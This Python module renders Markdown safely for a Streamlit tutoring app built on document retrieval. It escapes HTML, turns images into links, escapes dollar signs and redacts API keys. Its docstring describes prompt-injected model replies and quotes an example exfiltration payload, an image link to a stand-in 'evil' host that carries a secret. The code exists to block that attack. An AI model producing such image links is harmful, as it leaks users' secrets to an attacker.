"""Text made safe and plain for a Markdown UI (the Streamlit app), without importing one.

Corpus files are user-supplied and model replies can be steered by prompt injection, so
neither is trusted as markup. Streamlit's Markdown already refuses raw HTML unless told
otherwise; `safe_markdown` goes further and keeps the *text* of a tag visible (a
`<script>` reads as `<script>`), turns images into plain links (an injected
`![](https://evil/?q=secret)` would otherwise be fetched by the browser the moment it is
shown) and escapes `$` so prices are not typeset as LaTeX. Code spans and fenced blocks
are left exactly as written: there, Markdown shows everything literally anyway.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from rag.corpus import Entry, Origin
from rag.redact import redact

OFFLINE_STATUS = "Offline tutor: set OPENAI_API_KEY or OPENAI_BASE_URL for LLM answers"

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(?:.+?)\1", re.DOTALL)
_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_IMAGE = re.compile(r"!\[([^\]]*)\]\(([^)\s]*)[^)]*\)")
_DOLLAR = re.compile(r"(?<!\\)\$")
_MARKER = re.compile(r"\[(\d{1,2})\](?!\()")
_URL_CREDENTIALS = re.compile(r"(?<=://)[^/@\s]+@")


def safe_markdown(text: str | None) -> str:
    """Markdown whose HTML shows as text, whose images are links and whose `$` are literal."""
    if not text:
        return ""
    out: list[str] = []
    fence: str | None = None
    prose: list[str] = []
    for line in text.splitlines(keepends=True):
        opening = _FENCE.match(line)
        if fence is None and opening:
            out.append(_escape_prose("".join(prose)))
            prose = []
            fence = opening.group(1)[0] * len(opening.group(1))
            out.append(line)
        elif fence is not None:
            out.append(line)
            if line.strip().startswith(fence) and not line.strip().strip(fence[0]):
                fence = None
        else:
            prose.append(line)
    out.append(_escape_prose("".join(prose)))
    return "".join(out)


def _escape_prose(text: str) -> str:
    pieces: list[str] = []
    last = 0
    for span in _CODE_SPAN.finditer(text):
        pieces.append(_escape_plain(text[last : span.start()]))
        pieces.append(span.group(0))
        last = span.end()
    pieces.append(_escape_plain(text[last:]))
    return "".join(pieces)


def _escape_plain(text: str) -> str:
    text = _TAG_START.sub("&lt;", text)
    text = _IMAGE.sub(lambda m: f"[image: {m.group(1) or 'untitled'}]({m.group(2)})", text)
    return _DOLLAR.sub(r"\\$", text)


def safe_stream(deltas: Iterable[str]) -> Iterator[str]:
    """`safe_markdown` for text that arrives in pieces, for a live preview while it streams.

    A piece ending in `<` or `!` is held back until the next one shows whether it starts a
    tag or an image. Code is not told apart here (a streamed `<` in code briefly reads
    `&lt;`): the finished answer is rendered again with `safe_markdown`.
    """
    pending = ""
    for delta in deltas:
        if not delta:
            continue
        text = pending + str(delta)
        pending = ""
        if text.endswith(("<", "!")):
            text, pending = text[:-1], text[-1]
        if text:
            yield _escape_live(text)
    if pending:
        yield _escape_live(pending)


def _escape_live(text: str) -> str:
    text = _TAG_START.sub("&lt;", text)
    text = text.replace("![", "\\![")
    return _DOLLAR.sub(r"\\$", text)


def highlight_markers(text: str, markers: Iterable[int]) -> str:
    """Make the `[n]` citation markers that have a source card stand out in the answer."""
    known = {int(m) for m in markers}
    return _MARKER.sub(lambda m: f"**[{m.group(1)}]**" if int(m.group(1)) in known else m.group(0), text)


def origins_markdown(origins: Iterable[Origin]) -> str:
    """'DataCamp: [title](url)' per origin, one list item each (plain name when no link)."""
    lines = []
    for origin in origins:
        name = safe_markdown(origin.name)
        if origin.url and origin.url.startswith(("https://", "http://")):
            title = safe_markdown(origin.title or origin.url).replace("[", "(").replace("]", ")")
            lines.append(f"- {name}: [{title}]({origin.url.replace(')', '%29').replace(' ', '%20')})")
        else:
            lines.append(f"- {name}")
    return "\n".join(lines)


def entry_heading(entry: Entry) -> str:
    """'Q10 · How would you handle model rollback…' as plain, escaped Markdown."""
    return safe_markdown(entry.label)


def split_coach_question(answer: str, question: str | None) -> tuple[str, str | None]:
    """The answer without its closing "**Coach question:** ..." line, and that question,
    so the UI can set it apart; (answer, None) when the line is not there as written."""
    line = f"**Coach question:** {question}"
    if question and line in answer:
        return answer.replace(line, "").rstrip(), question
    return answer, None


def prompt_markdown(prompt: str) -> str:
    """A quiz question in bold; what follows its first paragraph (an excerpt) as a quote."""
    first, _, rest = safe_markdown(prompt).strip().partition("\n\n")
    text = f"**{first.strip()}**"
    if rest.strip():
        text += "\n\n" + "\n".join(f"> {line}" for line in rest.strip().splitlines())
    return text


def choices_markdown(choices: list[str], answer: int | None, chosen: int | None) -> str:
    """Multiple-choice options after grading: the right one marked, a wrong pick struck through."""
    lines = []
    for i, choice in enumerate(choices):
        text = safe_markdown(choice)
        if i == answer:
            lines.append(f":green[:material/check_circle:] **{text}**")
        elif i == chosen:
            lines.append(f":red[:material/cancel:] ~~{text}~~")
        else:
            lines.append(f":gray[:material/radio_button_unchecked:] :gray[{text}]")
    return "  \n".join(lines)


def one_line(text: str, limit: int = 90) -> str:
    """Whitespace collapsed and cut at a word boundary, for labels."""
    text = " ".join(text.split())
    return text if len(text) <= limit else text[: limit - 1].rsplit(" ", 1)[0] + "…"


def backend_status(settings, llm=None) -> str:
    """The sidebar's one line about who writes the answers, in plain words, key never shown."""
    if llm is None or not settings.llm_configured:
        return OFFLINE_STATUS
    described = llm.describe() if hasattr(llm, "describe") else f"{settings.chat_model} at {settings.openai_base_url}"
    secret = settings.openai_api_key.get_secret_value() if settings.openai_api_key else None
    return redact(f"Using {_URL_CREDENTIALS.sub('', described)}", secret)
